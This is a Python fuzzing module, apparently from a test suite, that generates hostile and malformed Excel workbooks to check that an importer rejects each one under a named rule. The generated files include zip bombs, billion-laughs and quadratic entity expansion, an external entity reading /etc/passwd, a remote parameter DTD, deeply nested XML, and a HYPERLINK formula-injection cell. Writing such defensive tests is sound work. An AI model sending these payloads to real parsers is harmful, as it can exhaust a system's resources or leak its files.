"""Workbooks: bombs, entities, locks, too many sheets, merged cells, days that never were."""

from __future__ import annotations

import random
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from proofs.fuzzing.hostile_files.hostile import COLUMNS, ROWS, Hostile, broken, table, writing
from proofs.fuzzing.hostile_files.writing import HEAD, archive, bomb, entry, sheet_xml, workbook, zipped

_PARTS = ("xl/workbook.xml", "xl/sharedStrings.xml", "xl/styles.xml", "xl/worksheets/sheet1.xml", "_rels/.rels")
_DOCUMENT_TYPES = {
    "billion-laughs": '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>",
    "external": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "parameter": '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://example.test/x.dtd"> %a;]>',
    "quadratic": f'<!DOCTYPE x [<!ENTITY a "{"x" * 100_000}">]>',
    "empty": "<!DOCTYPE x>",
}
_SHEET = "xl/worksheets/sheet1.xml"
_LOCKED = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1_000 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 1_000
_OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1_000 + "Workbook".encode("utf-16-le") + b"\0" * 1_000
# Cells in XML: what a spreadsheet would show is no text, number or day.
_ERRORS = ("#N/A", "#REF!", "#DIV/0!", "#NAME?")
_NO_DAYS = ("-1", "60", "2958466", "1e300", "99999999999")
_NO_NUMBERS = ("nan", "1_000", "0x10", "1,5", "inf", "--1", "1e9999")
_FORMULAS = (
    "<f>1+1</f><v>2</v>",
    '<f t="shared" si="0"/><v>2</v>',
    '<f>HYPERLINK("http://example.test")</f><v>x</v>',
    "<f/>",
)


def files(chance: random.Random) -> Iterator[Hostile]:
    """Answer the files of these kinds."""
    yield from _bombs(chance)
    yield from _xml(chance)
    yield from _packages(chance)
    yield from _cells(chance)
    yield from _sheets(chance)


def _parts(chance: random.Random, **more: Any) -> dict[str, bytes]:
    return workbook(COLUMNS, table(chance), **more)


def _bombs(chance: random.Random) -> Iterator[Hostile]:
    kind = "zip bombs"
    for part in _PARTS:
        for size in (4_000_000_000, 50_000_000):
            entries = [entry(name, data) for name, data in _parts(chance).items() if name != part]
            data = archive([*entries, bomb(part, size)])
            yield broken(kind, f"{size}-{part.rpartition('/')[2]}.xlsx", data, "zip-bomb")
        entries = [entry(name, data) for name, data in _parts(chance).items() if name != part]
        data = archive([*entries, bomb(part, 4_000_000_000, told=2_000)])
        yield broken(kind, f"lies-{part.rpartition('/')[2]}.xlsx", data, "not-xlsx")
    many = archive([(f"xl/part{number}.xml", b"\x03\0", 0, 0, 0) for number in range(60_000)])
    yield broken(kind, "many-parts.xlsx", many, "zip-bomb")


def _xml(chance: random.Random) -> Iterator[Hostile]:
    for part in _PARTS:
        for name, document_type in _DOCUMENT_TYPES.items():
            parts = _parts(chance)
            parts[part] = parts[part].replace(HEAD.encode(), HEAD.encode() + document_type.encode(), 1)
            yield broken("XML entities", f"{name}-{part.rpartition('/')[2]}.xlsx", zipped(parts), "xml-entity")
    bombs = {
        "deep": "<a>" * 2_000_000,
        "names": "".join(f"<n{number}/>" for number in range(100_000)),
        "attributes": "".join(f'<row a{number}="1"/>' for number in range(100_000)),
        "attribute": f'<row a="{"x" * 30_000_000}"/>',
        "comment": f"<!--{'x' * 30_000_000}-->",
    }
    for name, xml in bombs.items():
        data = sheet_xml(COLUMNS, table(chance)).replace("<sheetData>", f"<sheetData>{xml}").encode()
        entries = [entry(one, part) for one, part in _parts(chance).items() if one != _SHEET]
        # Told with the size it has; what compresses too well would be refused before it is read.
        stored = zlib.compressobj(0, zlib.DEFLATED, -15)
        packed = stored.compress(data) + stored.flush()
        data = archive([*entries, (_SHEET, packed, len(data), zlib.crc32(data), 0)])
        yield broken("XML bombs", f"{name}.xlsx", data, "xml-bomb")


def _packages(chance: random.Random) -> Iterator[Hostile]:
    kind = "broken workbooks"
    whole = zipped(_parts(chance))
    for number in range(8):
        yield broken(kind, f"cut-{number}.xlsx", whole[: chance.randrange(10, len(whole) - 30)], "not-xlsx")
    for part in (*_PARTS, "xl/_rels/workbook.xml.rels"):
        without = {name: data for name, data in _parts(chance).items() if name != part}
        yield broken(kind, f"without-{part.rpartition('/')[2]}.xlsx", zipped(without), "not-xlsx")
        torn = _parts(chance)
        torn[part] = torn[part][:-5]
        yield broken(kind, f"torn-{part.rpartition('/')[2]}.xlsx", zipped(torn), "not-xlsx")
        twice = archive([entry(name, data) for name, data in (*_parts(chance).items(), (part, b"<x/>"))])
        yield broken(kind, f"twice-{part.rpartition('/')[2]}.xlsx", twice, "not-xlsx")
        locked = archive([entry(name, data, flags=int(name == part)) for name, data in _parts(chance).items()])
        yield broken("locked files", f"locked-{part.rpartition('/')[2]}.xlsx", locked, "encrypted")
    for number in range(3):
        padding = b"\0" * chance.randrange(10_000)
        yield broken("locked files", f"container-{number}.xlsx", _LOCKED + padding, "encrypted")
        yield broken("called something else", f"old-{number}.xlsx", _OLD + padding, "wrong-form")
    others = ("word/document.xml", "ppt/presentation.xml", "xl/workbook.bin", "mimetype", "AndroidManifest.xml")
    for other in others:
        data = zipped({**_parts(chance), other: b"x"})
        yield broken("called something else", f"holds-{other.rpartition('/')[2]}.xlsx", data, "wrong-form")
    for number, row in enumerate(
        ('<row r="3"/><row r="2"/>', '<row r="9999999"/>', '<row r="2"/><row r="2"/>', '<row r="-1"/>')
    ):
        xml = sheet_xml(COLUMNS, []).replace("</sheetData>", f"{row}</sheetData>")
        yield broken(kind, f"row-{number}.xlsx", zipped(_parts(chance, sheets={"Rows": xml})), "not-xlsx")
    for number, name in enumerate(("ZZZ1", "1A", "A0", "XFE2", "é1", "A1:B2")):
        yield broken(kind, f"cell-{number}.xlsx", _with_cell(chance, f'<c r="{name}"><v>1</v></c>')[0], "not-xlsx")
    for number, text in enumerate(("0", "-1", "999999999999", "x")):
        yield broken(kind, f"text-{number}.xlsx", _with_cell(chance, f'<c t="s"><v>{text}</v></c>')[0], "not-xlsx")


def _with_cell(chance: random.Random, cell: str) -> tuple[bytes, int]:
    """Answer a workbook in which the first cell of a row is that, and the number of the row."""
    rows = table(chance)
    row = chance.randrange(ROWS)
    rows[row][0] = "HERE"
    xml = sheet_xml(COLUMNS, rows).replace('<c t="inlineStr"><is><t xml:space="preserve">HERE</t></is></c>', cell)
    return zipped(workbook(COLUMNS, rows, sheets={"Rows": xml})), row + 1


def _cells(chance: random.Random) -> Iterator[Hostile]:
    for kind, rule, cells in (
        ("cells that show an error", "cell-error", [f'<c t="e"><v>{one}</v></c>' for one in _ERRORS]),
        ("serial numbers of no day", "not-a-day", [f'<c s="1"><v>{one}</v></c>' for one in _NO_DAYS]),
        ("numbers without end", "not-a-number", [f"<c><v>{one}</v></c>" for one in _NO_NUMBERS]),
        ("formula injection", "formula", [f"<c>{one}</c>" for one in _FORMULAS]),
    ):
        for number, cell in enumerate(cells):
            data, row = _with_cell(chance, cell)
            expected = frozenset({(row, COLUMNS[0], rule)})
            yield Hostile(kind, f"{rule}-{number}.xlsx", writing(data), expected, ROWS - 1)
    for number in range(4):
        row = chance.randrange(2, ROWS)
        spans = f"A{row}:B{row + 1}"
        after = f'<mergeCells><mergeCell ref="{spans}"/><mergeCell ref="C1:D1"/></mergeCells>'
        xml = sheet_xml(COLUMNS, table(chance), after=after)
        expected = frozenset({(row - 1, COLUMNS[0], "merged-cells"), (None, COLUMNS[2], "merged-cells")})
        data = zipped(_parts(chance, sheets={"Rows": xml}))
        yield Hostile("merged cells", f"merged-{number}.xlsx", writing(data), expected, ROWS)
        rows = [*table(chance), ["x"] * (len(COLUMNS) + 1 + number)]
        ragged = frozenset({(ROWS + 1, None, "ragged")})
        data = zipped(workbook(COLUMNS, rows))
        yield Hostile("ragged rows", f"ragged-{number}.xlsx", writing(data), ragged, ROWS)


def _sheets(chance: random.Random) -> Iterator[Hostile]:
    xml = sheet_xml(COLUMNS, table(chance))
    for number in (2, 3, 50):
        sheets = {f"Sheet {one}": xml for one in range(number)}
        yield broken("several sheets", f"sheets-{number}.xlsx", zipped(_parts(chance, sheets=sheets)), "several-sheets")
    empty = sheet_xml([], [])
    yield broken("empty files", "no-rows.xlsx", zipped(_parts(chance, sheets={"Rows": empty})), "empty-file")
    blank = xml.replace("<sheetData>", '<sheetData><row r="1"/>')
    yield broken("no header", "blank.xlsx", zipped(_parts(chance, sheets={"Rows": blank})), "no-header")
    figures = sheet_xml(["1", "2", "2024-01-31", "4", "5", "6"], table(chance))
    yield broken("no header", "figures.xlsx", zipped(_parts(chance, sheets={"Rows": figures})), "no-header")
    twice = sheet_xml(["a", "b", " a", "d", "e", "f"], table(chance))
    data = zipped(_parts(chance, sheets={"Rows": twice}))
    yield broken("duplicate columns", "twice.xlsx", data, "duplicate-column", field="a")
    blanks = sheet_xml(["a", "", "c", "d", "e", "f"], table(chance))
    yield broken(
        "columns without a name", "blank.xlsx", zipped(_parts(chance, sheets={"Rows": blanks})), "column-without-name"
    )
    wide = sheet_xml([f"c{number}" for number in range(1_001)], [])
    yield broken("ten million columns", "wide.xlsx", zipped(_parts(chance, sheets={"Rows": wide})), "too-many-columns")
    yield broken("too many different texts", "texts.xlsx", _many_texts, "too-many-texts")


def _many_texts(path: Path) -> None:
    chance = random.Random(1)
    texts = "".join(f"<si><t>{chance.randbytes(40).hex()}</t></si>" for _ in range(700_000))
    shared = f"{HEAD}<sst>{texts}</sst>".encode()
    path.write_bytes(zipped(workbook(COLUMNS, [["x"] * 6], sharedStrings=shared)))
